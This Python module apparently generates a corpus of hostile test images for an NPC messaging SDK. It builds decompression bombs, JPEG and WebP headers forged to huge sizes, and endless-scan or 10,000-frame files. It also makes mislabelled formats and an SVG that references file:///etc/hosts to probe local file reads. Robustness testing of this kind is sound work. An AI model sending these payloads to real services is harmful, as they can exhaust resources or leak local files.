"""Pictures that are small to send and large, slow or something else once a decoder believes them."""

from __future__ import annotations

import io
import struct
from collections.abc import Iterator

from PIL import Image

from game_bridge.attack.picture_png import png_bombs
from npc_sdk.messages import ImagePart

PNG, JPEG, WEBP = "image/png", "image/jpeg", "image/webp"
_FRAMES = 10_000
_QHD = (2_560, 1_600)
_FOREIGN = ("GIF", "TIFF", "BMP", "ICO", "PPM", "TGA", "PCX", "JPEG2000")


def bombs() -> Iterator[tuple[str, ImagePart]]:
    """Each with its name."""
    yield from png_bombs()
    yield from _jpeg_bombs()
    yield from _webp_bombs()
    yield from _raw_bombs()
    for kind in _FOREIGN:
        yield f"{kind} as PNG", ImagePart(PNG, _encoded(Image.new("RGB", (64, 64)), kind))
    yield (
        "SVG as PNG",
        ImagePart(PNG, b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/hosts"/></svg>'),
    )
    yield "Photoshop as PNG", ImagePart(PNG, b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3))
    yield "EPS as JPEG", ImagePart(JPEG, b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n")


def _jpeg_bombs() -> Iterator[tuple[str, ImagePart]]:
    sound = _encoded(Image.new("RGB", (64, 64), (200, 0, 0)), "JPEG")
    at = sound.index(b"\xff\xc0") + 5
    for side in (65_535, 8_000, 4_096):
        yield (
            f"JPEG of {side} pixels a side",
            ImagePart(JPEG, sound[:at] + struct.pack(">HH", side, side) + sound[at + 4 :]),
        )
    yield "JPEG of 16 million pixels", ImagePart(JPEG, _encoded(_grain((4_096, 4_096)), "JPEG"))
    many = _encoded(_grain(_QHD), "JPEG", progressive=True, subsampling=0)
    yield "JPEG of a progressive screen", ImagePart(JPEG, many)
    yield "JPEG of a progressive screen, the end wrong", ImagePart(JPEG, many[:-2] + b"\xff\xc4\0\5bad" + many[-2:])
    plain = _encoded(Image.new("RGB", _QHD, (9, 99, 199)), "JPEG", progressive=True, subsampling=0)
    last = plain[plain.rindex(b"\xff\xda") : -2]
    for scans in (6, 500):
        yield f"JPEG of {scans} scans more", ImagePart(JPEG, plain[:-2] + last * scans + plain[-2:])
    yield (
        "JPEG of comments only",
        ImagePart(JPEG, b"\xff\xd8" + b"\xff\xfe\xff\xff" + bytes(65_533) + b"\xff\xfe\0\2" * 10**6),
    )
    yield "JPEG of fill bytes only", ImagePart(JPEG, b"\xff\xd8" + b"\xff" * 8_000_000)
    cmyk = _encoded(Image.new("CMYK", (64, 64)), "JPEG")
    yield "JPEG of four colours", ImagePart(JPEG, cmyk)


def _webp_bombs() -> Iterator[tuple[str, ImagePart]]:
    canvas = b"VP8X" + struct.pack("<I", 10) + bytes((2, 0, 0, 0)) + b"\xff\x3f\0" * 2
    yield "WebP of a huge canvas", ImagePart(WEBP, _riff(canvas))
    frame = b"ANMF" + struct.pack("<I", 16) + bytes(16)
    yield (
        "WebP of 10,000 frames",
        ImagePart(WEBP, _riff(canvas + b"ANIM" + struct.pack("<I", 6) + bytes(6) + frame * _FRAMES)),
    )
    lossless = b"\x2f" + (0x3FFF | 0x3FFF << 14).to_bytes(4, "little") + bytes(100)
    yield (
        "WebP of 16,384 pixels a side",
        ImagePart(WEBP, _riff(b"VP8L" + struct.pack("<I", len(lossless)) + lossless + b"\0")),
    )
    for name, options in (("lossless", {"lossless": True, "quality": 0}), ("lossy", {"quality": 90})):
        whole = _encoded(_grain(_QHD), "WEBP", method=0, **options)
        yield f"WebP of a {name} screen", ImagePart(WEBP, whole)
        yield f"WebP of a {name} screen, the end wrong", ImagePart(WEBP, whole[:-50_000] + bytes(50_000))


def _raw_bombs() -> Iterator[tuple[str, ImagePart]]:
    yield (
        "raw of 2^32 pixels a side",
        ImagePart("image/x-rgb8", struct.pack(">III", 2**32 - 1, 2**32 - 1, 3) + bytes(99)),
    )
    yield "raw of overlapping rows", ImagePart("image/x-rgba8", struct.pack(">III", 8_000, 2_000, 0) + bytes(32_000))


def _grain(size: tuple[int, int]) -> Image.Image:
    """Noise takes a decoder the longest."""
    grain = Image.effect_noise(size, 60)
    return Image.merge("RGB", (grain, grain.rotate(180), grain.transpose(Image.Transpose.FLIP_LEFT_RIGHT)))


def _riff(body: bytes) -> bytes:
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()
